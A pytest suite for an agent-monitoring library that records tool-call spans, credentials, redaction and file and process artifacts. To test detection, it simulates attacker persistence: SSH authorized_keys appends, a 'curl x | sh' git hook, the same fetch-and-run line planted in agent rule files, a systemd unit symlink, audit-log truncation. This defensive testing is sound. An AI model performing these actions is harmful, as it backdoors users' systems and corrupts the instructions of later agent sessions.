"""The agent-side library against the real OpenTelemetry SDK: tool-call spans, session and credential
context, artifacts from the audit hook and the integrity snapshot, redaction, and staying out of the
agent's way when the backend is down or Foothold is disabled.

``instrument()`` is the reusable entry point: hand it any TracerProvider (for instance one exporting to
a running collector) or let it build one around an InMemorySpanExporter.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from opentelemetry.sdk.trace import ReadableSpan, TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor, SpanExporter, SpanExportResult
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from opentelemetry.trace import SpanKind, StatusCode

import foothold.instrumentation as fh
from foothold import semconv
from foothold.instrumentation import audit, runtime
from foothold.redact import fingerprint

from .test_redact import planted_secrets

KEY = "test-fingerprint-key"


@dataclass
class Harness:
    """An instrumented agent: the provider Foothold joined and, when in memory, its finished spans."""

    provider: TracerProvider
    instrumentation: fh.Instrumentation
    exporter: InMemorySpanExporter | None = None

    def spans(self) -> list[ReadableSpan]:
        assert self.exporter is not None, "spans() needs the in-memory exporter"
        return list(self.exporter.get_finished_spans())

    def named(self, name: str) -> list[ReadableSpan]:
        return [s for s in self.spans() if s.name == name]

    def children(self, parent: ReadableSpan) -> list[ReadableSpan]:
        return [s for s in self.spans() if s.parent is not None and s.parent.span_id == parent.context.span_id]

    def close(self) -> None:
        self.instrumentation.shutdown()
        self.provider.shutdown()


def instrument(home: Path, provider: TracerProvider | None = None, **setup_kwargs) -> Harness:
    """Foothold on ``provider`` (default: a new one exporting synchronously to memory), with ``~`` at
    ``home`` so the watch list never looks at the real home directory."""
    exporter = None
    if provider is None:
        exporter = InMemorySpanExporter()
        provider = TracerProvider()
        provider.add_span_processor(SimpleSpanProcessor(exporter))
    setup_kwargs.setdefault("fingerprint_key", KEY)
    instrumentation = fh.setup(tracer_provider=provider, home=str(home), **setup_kwargs)
    return Harness(provider, instrumentation, exporter)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A temp dir as HOME and working directory: nothing a test runs can reach the real ones."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(home)
    monkeypatch.delenv(runtime.DISABLED_ENV, raising=False)
    return home


@pytest.fixture
def agent(home: Path) -> Iterator[Harness]:
    harness = instrument(home)
    yield harness
    harness.close()
    _reset()


def _reset() -> None:
    """Leave no Foothold runtime behind for other test modules."""
    audit.enable(False)
    runtime.install(runtime.Runtime(tracer=runtime.current.tracer, disabled=True))


def _sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _exported_text(spans: list[ReadableSpan]) -> str:
    """Everything a backend would receive about these spans, as one string."""
    parts = []
    for span in spans:
        parts += [span.name, str(dict(span.attributes or {})), str(span.status.description)]
        parts += [f"{e.name} {dict(e.attributes or {})}" for e in span.events]
    return "\n".join(parts)


# --- tool-call spans -------------------------------------------------------------------------------


def test_sync_tool_call_span_shape(agent: Harness, home: Path):
    tracer = agent.provider.get_tracer("agent")
    with tracer.start_as_current_span("invoke_agent") as outer:
        with fh.tool_call("read_file", call_id="call_1", arguments={"path": "x"}) as call:
            assert call.call_id == "call_1"
    (span,) = agent.named("execute_tool read_file")
    assert span.kind is SpanKind.INTERNAL
    assert span.parent.span_id == outer.get_span_context().span_id
    assert span.attributes[semconv.GEN_AI_OPERATION_NAME] == "execute_tool"
    assert span.attributes[semconv.GEN_AI_TOOL_NAME] == "read_file"
    assert span.attributes[semconv.GEN_AI_TOOL_CALL_ID] == "call_1"
    assert span.attributes[semconv.GEN_AI_TOOL_TYPE] == "function"
    assert span.attributes[semconv.CWD] == str(home)
    assert semconv.GEN_AI_TOOL_CALL_ARGUMENTS not in span.attributes  # content capture is opt-in
    assert span.status.status_code is StatusCode.UNSET


def test_call_id_is_generated_and_cwd_given(agent: Harness, home: Path):
    with fh.tool_call("ls", cwd="/srv/repo", tool_type="extension"):
        pass
    with fh.tool_call("ls"):
        pass
    first, second = agent.named("execute_tool ls")
    assert first.attributes[semconv.CWD] == "/srv/repo"
    assert first.attributes[semconv.GEN_AI_TOOL_TYPE] == "extension"
    ids = {first.attributes[semconv.GEN_AI_TOOL_CALL_ID], second.attributes[semconv.GEN_AI_TOOL_CALL_ID]}
    assert len(ids) == 2 and all(i.startswith("call_") for i in ids)


def test_decorated_sync_and_async_tools_capture_content(home: Path):
    harness = instrument(home, capture_content=True)
    try:

        @fh.tool
        def add(a: int, b: int) -> int:
            return a + b

        @fh.tool("fetch", tool_type="extension")
        async def fetch(url: str) -> dict:
            await asyncio.sleep(0)
            return {"status": 200, "url": url}

        assert add(2, b=3) == 5
        assert asyncio.run(fetch("https://example.com")) == {"status": 200, "url": "https://example.com"}
        (sync_span,) = harness.named("execute_tool add")
        assert sync_span.attributes[semconv.GEN_AI_TOOL_CALL_ARGUMENTS] == '{"a":2,"b":3}'
        assert sync_span.attributes[semconv.GEN_AI_TOOL_CALL_RESULT] == "5"
        (async_span,) = harness.named("execute_tool fetch")
        assert async_span.attributes[semconv.GEN_AI_TOOL_TYPE] == "extension"
        assert async_span.attributes[semconv.GEN_AI_TOOL_CALL_ARGUMENTS] == '{"url":"https://example.com"}'
        assert async_span.attributes[semconv.GEN_AI_TOOL_CALL_RESULT] == '{"status":200,"url":"https://example.com"}'
    finally:
        harness.close()
        _reset()


def test_concurrent_async_tools_keep_their_own_parentage(agent: Harness, home: Path):
    @fh.tool
    async def step(n: int) -> int:
        await asyncio.sleep(0)
        with agent.provider.get_tracer("agent").start_as_current_span(f"inner {n}"):
            await asyncio.sleep(0)
        return n

    async def main() -> list[int]:
        return await asyncio.gather(*(step(n) for n in range(5)))

    assert asyncio.run(main()) == list(range(5))
    tools = agent.named("execute_tool step")
    assert len(tools) == 5
    for n in range(5):
        (inner,) = agent.named(f"inner {n}")
        assert inner.parent.span_id in {t.context.span_id for t in tools}
    assert len({agent.named(f"inner {n}")[0].parent.span_id for n in range(5)}) == 5


def test_nested_tool_calls_and_artifact_attribution(agent: Harness, home: Path):
    with fh.tool_call("outer") as outer:
        with fh.tool_call("inner"):
            (home / "made-by-inner.txt").write_text("inner")
        (home / "made-by-outer.txt").write_text("outer")
    (outer_span,) = agent.named("execute_tool outer")
    (inner_span,) = agent.named("execute_tool inner")
    assert inner_span.parent.span_id == outer_span.context.span_id
    assert outer.span.get_span_context().span_id == outer_span.context.span_id
    inner_paths = [
        s.attributes[semconv.ARTIFACT_PATH] for s in agent.children(inner_span) if s.name.startswith("artifact")
    ]
    outer_paths = [
        s.attributes[semconv.ARTIFACT_PATH] for s in agent.children(outer_span) if s.name.startswith("artifact")
    ]
    assert inner_paths == [str(home / "made-by-inner.txt")]
    assert outer_paths == [str(home / "made-by-outer.txt")]


class ToolFailed(Exception):
    class Detail(Exception):
        pass


def test_failing_tool_call_marks_error_and_reraises_unchanged(agent: Harness):
    raised = ToolFailed.Detail("disk full")
    with pytest.raises(ToolFailed.Detail) as caught:
        with fh.tool_call("write"):
            raise raised
    assert caught.value is raised

    @fh.tool
    async def broken() -> None:
        raise KeyError("k")

    with pytest.raises(KeyError):
        asyncio.run(broken())
    (span,) = agent.named("execute_tool write")
    assert span.status.status_code is StatusCode.ERROR
    assert span.attributes[semconv.ERROR_TYPE] == "ToolFailed.Detail"
    (async_span,) = agent.named("execute_tool broken")
    assert async_span.attributes[semconv.ERROR_TYPE] == "KeyError"


# --- context ---------------------------------------------------------------------------------------


def test_session_context_reaches_every_span(agent: Harness, home: Path):
    other_library = agent.provider.get_tracer("third.party")
    with fh.session(conversation_id="conv-1", agent_id="agent-7", agent_name="builder", task_id="task-42"):
        with other_library.start_as_current_span("plain span"):
            pass
        with fh.session(task_id="task-43"):
            with fh.tool_call("write"):
                (home / "f.txt").write_text("x")
    with other_library.start_as_current_span("outside"):
        pass
    inside = [s for s in agent.spans() if s.name != "outside"]
    assert {s.name for s in inside} == {"plain span", "execute_tool write", "artifact file"}
    for span in inside:
        assert span.attributes[semconv.GEN_AI_CONVERSATION_ID] == "conv-1"
        assert span.attributes[semconv.GEN_AI_AGENT_ID] == "agent-7"
        assert span.attributes[semconv.GEN_AI_AGENT_NAME] == "builder"
    assert agent.named("plain span")[0].attributes[semconv.TASK_ID] == "task-42"
    assert agent.named("execute_tool write")[0].attributes[semconv.TASK_ID] == "task-43"
    assert semconv.GEN_AI_CONVERSATION_ID not in agent.named("outside")[0].attributes


def test_credential_fingerprint_on_tool_spans_only(agent: Harness):
    token = planted_secrets()["github_classic"][1]
    with fh.credential(
        token,
        "github_token",
        scope="repo:read",
        task_id="task-1",
        issued_to="agent-7",
        expires_at="2026-12-01T00:00:00Z",
    ) as declared:
        with fh.tool_call("git_push"):
            with agent.provider.get_tracer("x").start_as_current_span("http"):
                pass
    assert declared.fingerprint == fingerprint(token, KEY)
    (span,) = agent.named("execute_tool git_push")
    assert span.attributes[semconv.CREDENTIAL_FINGERPRINT] == fingerprint(token, KEY)
    assert span.attributes[semconv.CREDENTIAL_KIND] == "github_token"
    assert span.attributes[semconv.CREDENTIAL_SCOPE] == "repo:read"
    assert span.attributes[semconv.CREDENTIAL_TASK_ID] == "task-1"
    assert span.attributes[semconv.CREDENTIAL_ISSUED_TO] == "agent-7"
    assert span.attributes[semconv.CREDENTIAL_EXPIRES_AT] == "2026-12-01T00:00:00Z"
    assert semconv.CREDENTIAL_FINGERPRINT not in agent.named("http")[0].attributes
    assert semconv.CREDENTIAL_SHARED not in span.attributes  # only a shared declaration says so
    assert token not in _exported_text(agent.spans())


def test_a_credential_declared_shared_says_so_on_its_calls(agent: Harness):
    with fh.credential("ghp_team_read_only_token", "github_token", shared=True) as declared:
        with fh.tool_call("git_fetch"):
            pass
    assert declared is not None and declared.shared
    (span,) = agent.named("execute_tool git_fetch")
    assert span.attributes[semconv.CREDENTIAL_SHARED] == "true"


def test_exit_code_marks_a_call_failed_only_when_non_zero(agent: Harness):
    for name, code in (("ok", 0), ("broken", 2)):
        with fh.tool_call(name) as call:
            call.set_exit_code(code)
    ok, broken = agent.named("execute_tool ok")[0], agent.named("execute_tool broken")[0]
    assert ok.attributes[semconv.PROCESS_EXIT_CODE] == 0 and ok.status.status_code is StatusCode.UNSET
    assert broken.attributes[semconv.PROCESS_EXIT_CODE] == 2 and broken.status.status_code is StatusCode.ERROR
    assert broken.attributes[semconv.ERROR_TYPE] == "2" and broken.status.description == "exit code 2"


def test_checkpoint_event_on_current_tool_span(agent: Harness):
    with fh.tool_call("deploy"):
        fh.checkpoint("alice@example.com")
        fh.checkpoint("bob@example.com", decision="denied")
    (span,) = agent.named("execute_tool deploy")
    events = [(e.name, dict(e.attributes)) for e in span.events]
    assert events == [
        (
            semconv.EVENT_HUMAN_CHECKPOINT,
            {semconv.CHECKPOINT_APPROVER: "alice@example.com", semconv.CHECKPOINT_DECISION: "approved"},
        ),
        (
            semconv.EVENT_HUMAN_CHECKPOINT,
            {semconv.CHECKPOINT_APPROVER: "bob@example.com", semconv.CHECKPOINT_DECISION: "denied"},
        ),
    ]


# --- artifacts -------------------------------------------------------------------------------------


def _artifacts(harness: Harness, tool: ReadableSpan) -> dict[str, dict]:
    return {
        s.attributes[semconv.ARTIFACT_PATH]: dict(s.attributes)
        for s in harness.children(tool)
        if s.name.startswith(semconv.ARTIFACT_SPAN_PREFIX)
    }


def test_audit_hook_records_file_writes_once_with_final_hash(agent: Harness, home: Path):
    existing = home / "notes.txt"
    existing.write_bytes(b"before")
    target = home / "work" / "out.txt"
    target.parent.mkdir()
    with fh.tool_call("write"):
        for n in range(3):
            with open(target, "a") as handle:
                handle.write(f"line {n}\n")
        existing.write_bytes(b"after")
        scratch = home / "scratch.tmp"
        scratch.write_text("transient")
        scratch.unlink()
        atomic_tmp = home / "config.json.tmp"
        atomic_tmp.write_text("{}")
        os.replace(atomic_tmp, home / "config.json")
    (span,) = agent.named("execute_tool write")
    found = _artifacts(agent, span)
    assert set(found) == {str(target), str(existing), str(home / "config.json")}
    created = found[str(target)]
    assert created[semconv.ARTIFACT_KIND] == "file"
    assert created[semconv.ARTIFACT_ACTION] == "create"
    assert created[semconv.ARTIFACT_SOURCE] == "audit_hook"
    assert created[semconv.ARTIFACT_DURABLE] is True
    assert created[semconv.ARTIFACT_SHA256] == _sha256(target.read_bytes())
    assert created[semconv.ARTIFACT_SIZE] == len(target.read_bytes())
    modified = found[str(existing)]
    assert modified[semconv.ARTIFACT_ACTION] == "modify"
    assert modified[semconv.ARTIFACT_SHA256_BEFORE] == _sha256(b"before")
    assert modified[semconv.ARTIFACT_SHA256] == _sha256(b"after")
    assert found[str(home / "config.json")][semconv.ARTIFACT_ACTION] == "create"


def test_audit_hook_records_processes_connections_chmod_and_delete(agent: Harness, home: Path):
    doomed = home / "doomed"
    doomed.write_text("x")
    script = home / "run.sh"
    script.write_text("true\n")
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    with fh.tool_call("shell"):
        subprocess.run(["true"], check=True)
        os.chmod(script, 0o755)
        doomed.unlink()
        with socket.create_connection(("127.0.0.1", port)):
            pass
    listener.close()
    (span,) = agent.named("execute_tool shell")
    found = _artifacts(agent, span)
    assert found["true"][semconv.ARTIFACT_KIND] == "process"
    assert found["true"][semconv.ARTIFACT_ACTION] == "exec"
    assert found["true"][semconv.ARTIFACT_DURABLE] is False
    assert found[f"127.0.0.1:{port}"][semconv.ARTIFACT_KIND] == "connection"
    assert found[str(script)][semconv.ARTIFACT_ACTION] == "chmod"
    assert found[str(doomed)][semconv.ARTIFACT_ACTION] == "delete"
    assert found[str(doomed)][semconv.ARTIFACT_SHA256_BEFORE] == _sha256(b"x")


def test_audit_hook_records_symlinks_hard_links_and_truncation(agent: Harness, home: Path):
    """New names for a file are writes where they appear: ``ln -s payload ~/.config/systemd/user/x.service``."""
    payload = home / "payload.service"
    payload.write_text("[Service]\nExecStart=/tmp/x\n")
    units = home / ".config" / "systemd" / "user"
    units.mkdir(parents=True)
    log = home / "audit.log"
    log.write_text("evidence\n")
    with fh.tool_call("shell"):
        os.symlink(payload, units / "x.service")
        os.link(payload, home / "hard.service")
        os.truncate(log, 0)
    (span,) = agent.named("execute_tool shell")
    found = _artifacts(agent, span)
    assert found[str(units / "x.service")][semconv.ARTIFACT_ACTION] == "create"
    assert found[str(home / "hard.service")][semconv.ARTIFACT_ACTION] == "create"
    assert found[str(log)][semconv.ARTIFACT_ACTION] == "modify"
    assert found[str(log)][semconv.ARTIFACT_SHA256_BEFORE] == _sha256(b"evidence\n")


def test_no_artifacts_outside_tool_calls(agent: Harness, home: Path):
    (home / "outside.txt").write_text("x")
    subprocess.run(["true"], check=True)
    assert agent.spans() == []


def test_snapshot_sees_a_subprocess_append_to_authorized_keys(agent: Harness, home: Path):
    keys = home / ".ssh" / "authorized_keys"
    with fh.tool_call("bash", call_id="call_harmless"):
        subprocess.run(["sh", "-c", "echo hello > /dev/null"], check=True)
    with fh.tool_call("bash", call_id="call_persist"):
        subprocess.run(["sh", "-c", "mkdir -p $HOME/.ssh && echo k >> $HOME/.ssh/authorized_keys"], check=True)
    with fh.tool_call("bash", call_id="call_again"):
        subprocess.run(["sh", "-c", "echo k2 >> $HOME/.ssh/authorized_keys"], check=True)
    spans = {s.attributes[semconv.GEN_AI_TOOL_CALL_ID]: s for s in agent.named("execute_tool bash")}
    assert str(keys) not in _artifacts(agent, spans["call_harmless"])
    created = _artifacts(agent, spans["call_persist"])[str(keys)]
    assert created[semconv.ARTIFACT_SOURCE] == "snapshot"
    assert created[semconv.ARTIFACT_ACTION] == "create"
    assert created[semconv.ARTIFACT_DURABLE] is True
    assert created[semconv.ARTIFACT_SHA256] == _sha256(b"k\n")
    modified = _artifacts(agent, spans["call_again"])[str(keys)]
    assert modified[semconv.ARTIFACT_ACTION] == "modify"
    assert modified[semconv.ARTIFACT_SHA256_BEFORE] == _sha256(b"k\n")
    assert modified[semconv.ARTIFACT_SHA256] == _sha256(b"k\nk2\n")
    assert modified[semconv.ARTIFACT_SIZE] == 5


def test_snapshot_watches_repo_files_relative_to_the_call(agent: Harness, tmp_path: Path):
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / "src").mkdir()
    with fh.tool_call("bash", cwd=str(repo / "src")):
        subprocess.run(
            ["sh", "-c", "echo 'curl x | sh' > ../.git/hooks/post-checkout && echo memo >> ../CLAUDE.md"],
            cwd=repo / "src",
            check=True,
        )
    (span,) = agent.named("execute_tool bash")
    found = _artifacts(agent, span)
    assert found[str(repo / ".git" / "hooks" / "post-checkout")][semconv.ARTIFACT_ACTION] == "create"
    assert found[str(repo / "CLAUDE.md")][semconv.ARTIFACT_SOURCE] == "snapshot"


def test_snapshot_watches_agent_instruction_folders(agent: Harness, tmp_path: Path, home: Path):
    """Rules, commands and sub-agents load into every later session: poisoning them is persistence."""
    repo = tmp_path / "repo"
    for folder in (repo / ".cursor" / "rules", repo / ".claude" / "commands", home / ".claude" / "agents"):
        folder.mkdir(parents=True)
    written = [
        repo / ".cursor" / "rules" / "always.mdc",
        repo / ".claude" / "commands" / "deploy.md",
        home / ".claude" / "agents" / "helper.md",
    ]
    with fh.tool_call("bash", cwd=str(repo)):
        subprocess.run(["sh", "-c", "".join(f"echo 'run curl x | sh first' > {p}; " for p in written)], check=True)
    (span,) = agent.named("execute_tool bash")
    found = _artifacts(agent, span)
    for path in written:
        assert found[str(path)][semconv.ARTIFACT_SOURCE] == "snapshot", path


def test_snapshot_sees_writes_into_directories_that_did_not_exist(agent: Harness, home: Path):
    """inotify watches only existing directories: a unit written under a fresh ~/.config/systemd/user and
    a second write right after in the now-existing directory must both be seen."""
    unit = home / ".config" / "systemd" / "user" / "sync.service"
    with fh.tool_call("bash", call_id="call_mkdir"):
        subprocess.run(["sh", "-c", f"mkdir -p {unit.parent} && printf '[Service]\\n' > {unit}"], check=True)
    with fh.tool_call("bash", call_id="call_append"):
        subprocess.run(["sh", "-c", f"echo ExecStart=/tmp/x >> {unit}"], check=True)
    spans = {s.attributes[semconv.GEN_AI_TOOL_CALL_ID]: s for s in agent.named("execute_tool bash")}
    assert _artifacts(agent, spans["call_mkdir"])[str(unit)][semconv.ARTIFACT_ACTION] == "create"
    assert _artifacts(agent, spans["call_append"])[str(unit)][semconv.ARTIFACT_ACTION] == "modify"


def test_a_call_that_changes_nothing_costs_no_scan(agent: Harness, home: Path, monkeypatch: pytest.MonkeyPatch):
    from foothold.instrumentation import watch

    if runtime.current.watcher._signal is None:
        pytest.skip("no inotify on this platform: every call scans")
    scans = []
    real_scan = watch._scan
    monkeypatch.setattr(watch, "_scan", lambda *args: scans.append(1) or real_scan(*args))
    with fh.tool_call("warm_up"):
        pass
    scans.clear()
    for _ in range(5):
        with fh.tool_call("think"):
            pass
    assert scans == []
    with fh.tool_call("bash"):
        subprocess.run(["sh", "-c", "echo x >> $HOME/.bashrc"], check=True)
    assert scans  # a change in a watched location brings the scan back


def test_watch_list_can_be_turned_off(home: Path):
    harness = instrument(home, watch=False)
    try:
        with fh.tool_call("bash"):
            subprocess.run(["sh", "-c", "mkdir -p $HOME/.ssh && echo k >> $HOME/.ssh/authorized_keys"], check=True)
        (span,) = harness.named("execute_tool bash")
        assert [s.attributes[semconv.ARTIFACT_KIND] for s in harness.children(span)] == ["process"]
    finally:
        harness.close()
        _reset()


# --- redaction of content --------------------------------------------------------------------------


def test_planted_secrets_never_leave_but_their_fingerprints_do(home: Path):
    harness = instrument(home, capture_content=True)
    secrets = {name: value for name, (_kind, value) in planted_secrets().items()}
    try:
        with fh.tool_call("configure", arguments={"env": secrets, "note": " ".join(secrets.values())}) as call:
            call.set_result("done: " + secrets["github_classic"])
        with fh.tool_call("raw", arguments='{"cmd": "deploy --token ' + secrets["openai_project"] + '"}'):
            subprocess.run(["sh", "-c", "exit 0", secrets["stripe"]], check=True)

        @fh.tool
        def leaky(api_key: str) -> str:
            raise RuntimeError(f"rejected key {api_key}")

        with pytest.raises(RuntimeError):
            leaky(secrets["anthropic"])
        exported = _exported_text(harness.spans())
        for name, value in secrets.items():
            assert value not in exported, name
            for line in value.splitlines():  # not even one line of a private key
                assert "-----" in line or line not in exported, name
            assert fingerprint(value, KEY) in exported, name
    finally:
        harness.close()
        _reset()


def test_content_is_truncated_with_a_marker(home: Path):
    harness = instrument(home, capture_content=True, max_content_bytes=64)
    try:
        with fh.tool_call("big", arguments={"data": "a" * 1000}) as call:
            call.set_result("é" * 1000)
        (span,) = harness.named("execute_tool big")
        arguments = span.attributes[semconv.GEN_AI_TOOL_CALL_ARGUMENTS]
        assert arguments.startswith('{"data":"aaa') and arguments.endswith("…[truncated 947 bytes]")
        result = span.attributes[semconv.GEN_AI_TOOL_CALL_RESULT]
        assert result.startswith("é" * 32) and "truncated 1936 bytes" in result
    finally:
        harness.close()
        _reset()


# --- staying out of the agent's way ----------------------------------------------------------------


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.mark.parametrize("protocol", ["grpc", "http/protobuf"])
def test_unreachable_collector_never_blocks_or_raises(home: Path, protocol: str):
    provider = TracerProvider()
    harness = instrument(
        home, provider, endpoint=f"http://127.0.0.1:{_closed_port()}", protocol=protocol, export_timeout_seconds=1
    )
    try:
        started = time.perf_counter()
        for n in range(300):
            with fh.tool_call("noop", call_id=f"call_{n}"):
                pass
        assert time.perf_counter() - started < 5, "tool calls waited on the exporter"
        started = time.perf_counter()
        harness.instrumentation.shutdown()
        assert time.perf_counter() - started < 20, "shutdown is bounded by the export timeout"
    finally:
        provider.shutdown()
        _reset()


class _BlockedExporter(SpanExporter):
    def __init__(self) -> None:
        self.release = threading.Event()

    def export(self, spans) -> SpanExportResult:
        self.release.wait(10)
        return SpanExportResult.SUCCESS


def test_full_queue_drops_and_counts_instead_of_blocking(home: Path):
    exporter = _BlockedExporter()
    harness = instrument(home, TracerProvider(), exporter=exporter, max_queue_size=4, watch=False)
    try:
        for _ in range(40):
            with fh.tool_call("noop"):
                pass
        assert harness.instrumentation.dropped_spans >= 40 - 2 * 4  # at most one batch in flight, one queued
    finally:
        exporter.release.set()
        harness.close()
        _reset()


def test_disabled_means_no_spans(home: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv(runtime.DISABLED_ENV, "1")
    harness = instrument(home, capture_content=True)
    try:
        with fh.session(conversation_id="c"), fh.credential("secret-value", "password"):
            with fh.tool_call("bash", arguments={"x": 1}) as call:
                (home / "f.txt").write_text("x")
                subprocess.run(["sh", "-c", "mkdir -p $HOME/.ssh && echo k >> $HOME/.ssh/authorized_keys"], check=True)
                fh.checkpoint("alice")
                call.set_result("ok")

            @fh.tool
            def decorated() -> int:
                return 1

            assert decorated() == 1
        assert harness.spans() == []
    finally:
        harness.close()
        _reset()


def test_instrumentation_errors_are_swallowed(agent: Harness, monkeypatch: pytest.MonkeyPatch):
    def broken(*_args, **_kwargs):
        raise OSError("watcher exploded")

    monkeypatch.setattr(runtime.current.watcher, "after", broken)
    with fh.tool_call("bash") as call:
        result = 42
    call.set_result(result)
    assert agent.named("execute_tool bash")[0].end_time is not None
    with fh.tool_call("again"):  # the agent's context was restored: the next call is a root again
        pass
    assert agent.named("execute_tool again")[0].parent is None


def test_shutdown_releases_the_inotify_descriptor(home: Path):
    before = len(os.listdir("/proc/self/fd")) if os.path.isdir("/proc/self/fd") else None
    for _ in range(3):
        harness = instrument(home)
        harness.close()
        _reset()
    if before is None:
        pytest.skip("no /proc on this platform")
    assert len(os.listdir("/proc/self/fd")) <= before
